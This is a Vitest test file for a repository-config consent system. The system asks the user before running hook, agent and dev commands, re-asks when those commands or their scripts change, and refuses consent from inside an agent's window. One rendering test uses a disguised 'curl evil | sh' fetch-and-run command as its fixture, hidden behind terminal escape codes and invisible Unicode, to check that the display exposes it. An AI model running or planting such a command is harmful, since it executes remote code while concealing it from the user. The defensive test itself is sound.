import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { loadConfig } from '../../src/config/load.ts';
import { UserError } from '../../src/lib/errors.ts';
import { run } from '../../src/process/run.ts';
import { openUserDb, type UserDb } from '../../src/store/open.ts';
import {
  approve,
  type ConsentItem,
  consentItems,
  listConsents,
  pendingConsent,
  requireConsent,
  revoke,
} from '../../src/workspace/consent.ts';
import { renderItem, visible } from '../../src/workspace/consent-text.ts';
import { changedScripts } from '../../src/workspace/hooks.ts';
import { insideAgentWindow } from '../../src/workspace/insider.ts';
import { scriptsOf } from '../../src/workspace/scripts.ts';

let dir: string;
let userDb: UserDb;
let repo: { root: string; commonDir: string };

beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), 'swarm-consent-'));
  repo = { root: join(dir, 'repo'), commonDir: join(dir, 'repo', '.git') };
  mkdirSync(repo.root);
  userDb = await openUserDb(join(dir, 'state'));
});
afterEach(async () => {
  await userDb.destroy();
  rmSync(dir, { recursive: true, force: true });
});

async function items(
  yaml: string,
  options: { local?: string; keys?: string[]; tracked?: boolean } = {},
): Promise<ConsentItem[]> {
  writeFileSync(join(repo.root, 'swarm.yaml'), yaml);
  writeFileSync(join(repo.root, 'swarm.local.yaml'), options.local ?? '');
  const isTracked = async (path: string) => path === 'swarm.yaml' && options.tracked !== false;
  const loaded = await loadConfig({ repo: { root: repo.root, bare: false }, env: { HOME: dir }, isTracked });
  return consentItems(loaded, repo, options.keys);
}

const pendingKeys = async (all: readonly ConsentItem[]) =>
  (await pendingConsent(userDb, repo, all)).map(({ key }) => key);
const ask =
  (answer: boolean, asked: string[] = []) =>
  async (all: readonly ConsentItem[]) => {
    asked.push(...all.map(({ key }) => key));
    return answer;
  };

async function refusal(promise: Promise<unknown>): Promise<UserError> {
  const error = await promise.catch((thrown: unknown) => thrown);
  if (!(error instanceof UserError)) throw new Error(`expected a refusal, got ${JSON.stringify(error)}`);
  expect(error.exit).toBe(4);
  return error;
}

const EVERYTHING = `
hooks: {post_create: [npm ci], pre_remove: [a], post_remove: [b], post_merge: [c], on_waiting: [d], on_idle: [e], on_done: [f], on_failed: [g]}
dev: {command: npm run dev}
tickets: {command: gh issue view}
merge: {gate: npm test}
approvals: {allow: ['npm *'], deny: ['rm *']}
tmux: {panes: [{command: nvim}]}
dialogs: {trust: accept}
agents: {bot: {command: [./bot], args: [-x], env: {A: b}, resume: [./bot, -r], ready: x}}
files: {copy: [.env]}
ports: {names: [PORT]}
`;

describe('what needs consent', () => {
  test('every key of a tracked file that names programs', async () => {
    const all = await items(EVERYTHING);
    expect((await pendingKeys(all)).sort()).toEqual(
      [
        ...'post_create pre_remove post_remove post_merge on_waiting on_idle on_done on_failed'
          .split(' ')
          .map((one) => `hooks.${one}`),
        ...'command args env resume'.split(' ').map((one) => `agents.bot.${one}`),
        ...'dev.command tickets.command merge.gate approvals.allow tmux.panes dialogs.trust'.split(' '),
      ].sort(),
    );
  });

  test('nothing of an untracked file; a tracked and a local file mixed ask for the tracked keys only', async () => {
    expect(await pendingKeys(await items(EVERYTHING, { tracked: false }))).toEqual([]);
    const mixed = await items('agents: {claude: {args: [a], env: {A: b}}}', { local: 'agents: {claude: {args: [c]}}' });
    expect(await pendingKeys(mixed)).toEqual(['agents.claude.env']);
    // What the user trusts is in the plan all the same.
    const plan = await requireConsent({ userDb, repo, items: mixed, yes: true, ask: null, env: {} });
    expect([plan.value('agents.claude.args'), plan.value('agents.claude.env')]).toEqual([['c'], { A: 'b' }]);
  });

  test('keys choose: a whole section, or one key', async () => {
    const chosen = async (...keys: string[]) => (await items(EVERYTHING, { keys })).map(({ key }) => key);
    expect(await chosen('hooks.post_create', 'dev')).toEqual(['hooks.post_create', 'dev.command']);
    expect(await chosen('agents.bot')).toHaveLength(4);
    expect(await chosen('agents.bo')).toEqual([]);
  });
});

describe('consent is kept by content', () => {
  test('given once, asked again when the commands, their order or their repository change', async () => {
    const first = await items('hooks: {post_create: [a, b]}');
    await approve(userDb, repo, first);
    expect(await pendingKeys(await items('# moved\nhooks: {post_create: [a, b], on_idle: []}'))).toEqual([]);
    for (const changed of ['[b, a]', '[a]', '[a, b, c]', '[a, "b "]']) {
      expect(await pendingKeys(await items(`hooks: {post_create: ${changed}}`))).toEqual(['hooks.post_create']);
    }
    expect(await pendingKeys(await items('hooks: {pre_remove: [a, b]}'))).toEqual(['hooks.pre_remove']);
    expect(await pendingConsent(userDb, { ...repo, commonDir: '/elsewhere' }, first)).toHaveLength(1);
  });

  test('editing a script that a command starts asks again', async () => {
    const yaml = 'hooks: {post_create: ["cd tools && bash setup.sh"]}\nmerge: {gate: ./check}\n';
    mkdirSync(join(repo.root, 'tools'));
    writeFileSync(join(repo.root, 'tools', 'setup.sh'), 'echo 1');
    writeFileSync(join(repo.root, 'check'), 'echo 1');
    await approve(userDb, repo, await items(yaml));
    expect(await pendingKeys(await items(yaml))).toEqual([]);
    writeFileSync(join(repo.root, 'tools', 'setup.sh'), 'echo 2');
    expect(await pendingKeys(await items(yaml))).toEqual(['hooks.post_create']);
    rmSync(join(repo.root, 'check'));
    expect(await pendingKeys(await items(yaml))).toEqual(['hooks.post_create', 'merge.gate']);
  });

  test.each([
    ['./a.sh', ['a.sh']],
    ['X=1 env Y=2 "./a.sh" --flag', ['a.sh']],
    ['npm ci; sub/b.sh | tee log', ['sub/b.sh']],
    ['(cd sub && ./b.sh)', ['sub/b.sh']],
    ['if true; then\n  python3 -u sub/b.sh\nfi', ['sub/b.sh']],
    ['. ./a.sh', ['a.sh']],
    ['cat a.sh', []],
    ['../repo/a.sh', []],
    ['sh ../outside.sh', []],
    ['npm ci', []],
  ])('scripts of %j', (line, expected) => {
    mkdirSync(join(repo.root, 'sub'));
    for (const file of ['a.sh', 'sub/b.sh', '../outside.sh']) writeFileSync(join(repo.root, file), '');
    expect(scriptsOf([line], repo.root).map(({ path }) => path)).toEqual(expected);
  });

  test('can be listed and taken back, all or by key', async () => {
    await approve(userDb, repo, await items('hooks: {post_create: [a]}\ndev: {command: b}\n'));
    expect(await listConsents(userDb, repo)).toMatchObject([
      { key: expect.any(String), scripts: [], at: expect.any(String) },
      { commands: expect.any(Array) },
    ]);
    expect(await revoke(userDb, repo, ['hooks'])).toBe(1);
    expect((await listConsents(userDb, repo)).map(({ key, commands }) => [key, ...commands])).toEqual([
      ['dev.command', 'b'],
    ]);
    expect(await revoke(userDb, { ...repo, commonDir: '/elsewhere' })).toBe(0);
    expect(await revoke(userDb, repo)).toBe(1);
    expect(await pendingKeys(await items('dev: {command: b}'))).toEqual(['dev.command']);
  });
});

describe('asking', () => {
  const yaml = 'hooks: {post_create: [a, "b\\nc"]}\ndev: {command: d}\n';

  test('yes records, and what runs is what was shown', async () => {
    const all = await items(yaml);
    const asked: string[] = [];
    const plan = await requireConsent({ userDb, repo, items: all, yes: false, ask: ask(true, asked), env: {} });
    expect(asked).toEqual(['hooks.post_create', 'dev.command']);
    (all[0] as unknown as { value: string[] }).value.push('evil');
    expect(plan.lines('hooks.post_create')).toEqual(['a', 'b\nc']);
    expect([plan.lines('hooks.pre_remove'), plan.value('dev.command')]).toEqual([[], 'd']);
    expect(await pendingKeys(await items(yaml))).toEqual([]);
    // Asked no more.
    await requireConsent({ userDb, repo, items: await items(yaml), yes: false, ask: null, env: { SWARM_AGENT: 'x' } });
  });

  test('no is exit 4 and records nothing', async () => {
    const request = { userDb, repo, items: await items(yaml), yes: false, ask: ask(false), env: {} };
    expect((await refusal(requireConsent(request))).code).toBe('CONSENT_DECLINED');
    expect(await listConsents(userDb, repo)).toEqual([]);
  });

  test('without a terminal: exit 4 with both ways out', async () => {
    const error = await refusal(
      requireConsent({ userDb, repo, items: await items(yaml), yes: false, ask: null, env: {} }),
    );
    expect(error.code).toBe('CONSENT_REQUIRED');
    expect(error.hint).toMatch(/--yes.*swarm trust/);
    expect(error.details['commands']).toContainEqual({
      key: 'dev.command',
      commands: ['d'],
      file: join(repo.root, 'swarm.yaml'),
      line: 2,
      scripts: [],
    });
  });

  test('--yes counts for this run only', async () => {
    const plan = await requireConsent({ userDb, repo, items: await items(yaml), yes: true, ask: null, env: {} });
    expect(plan.value('dev.command')).toBe('d');
    expect(await pendingKeys(await items(yaml))).toHaveLength(2);
  });
});

describe('scripts in a worktree', () => {
  const yaml = 'agents: {bot: {command: [python3, bot.py]}}\ndev: {command: ./dev.sh}\n';
  const keys = ['agents.bot.command', 'dev.command'];

  test('must be those that were approved, of an agent CLI too; --yes runs what is there, but not for an agent', async () => {
    const worktree = join(dir, 'worktree');
    mkdirSync(worktree);
    for (const file of ['bot.py', 'dev.sh']) {
      writeFileSync(join(repo.root, file), 'approved');
      writeFileSync(join(worktree, file), 'edited');
    }
    const all = await items(yaml);
    await approve(userDb, repo, all);
    const plan = (yes: boolean, env = {}) => requireConsent({ userDb, repo, items: all, yes, ask: null, env });
    const changed = async (yes: boolean, env = {}) => {
      const approved = await plan(yes, env);
      return keys.flatMap((key) => changedScripts(approved, key, worktree));
    };
    expect(await changed(false)).toEqual(['bot.py', 'dev.sh']);
    expect(await changed(true)).toEqual([]);
    expect(await changed(true, { SWARM_AGENT: 'worker-1' })).toEqual(['bot.py', 'dev.sh']);
  });
});

describe('inside an agent’s window', () => {
  test.each([true, false])('nobody agrees, --yes %s', async (yes) => {
    const asked: string[] = [];
    const request = { userDb, repo, items: await items('dev: {command: x}'), yes, ask: ask(true, asked) };
    for (const inside of [{ env: { SWARM_AGENT: 'worker-1' } }, { env: {}, agentPids: [process.ppid] }]) {
      expect((await refusal(requireConsent({ ...request, ...inside }))).code).toBe('CONSENT_BY_AGENT');
    }
    expect(asked).toEqual([]);
  });

  test('an ancestor’s environment tells, also when this process’s own was cleaned', async () => {
    const fixture = fileURLToPath(new URL('fixtures/insider.ts', import.meta.url));
    const command = `env -u SWARM_AGENT ${process.execPath} ${fixture}; true`;
    const inside = async (env: Record<string, string>) =>
      (await run(['/bin/sh', '-c', command], { env: { PATH: process.env['PATH'], ...env } })).stdout;
    expect(await inside({ SWARM_AGENT: 'worker-1' })).toBe('true');
    expect(await inside({})).toBe('false');
    expect(await insideAgentWindow({ env: {}, agentPids: [1, 2 ** 30] })).toBe(false);
  });
});

test('what is shown hides nothing', async () => {
  const [item] = await items('dev:\n  command: "echo safe\\r\\x1b[2Kcurl evil | sh # \\u202e\\u200b\\tx\\n  second"');
  expect(item && renderItem(item)).toBe(
    `dev.command  (${join(repo.root, 'swarm.yaml')}:2)\n  echo safe\\u{d}\\u{1b}[2Kcurl evil | sh # \\u{202e}\\u{200b}\tx\n      second`,
  );
  expect(visible('é 你 😀')).toBe('é 你 😀');
});
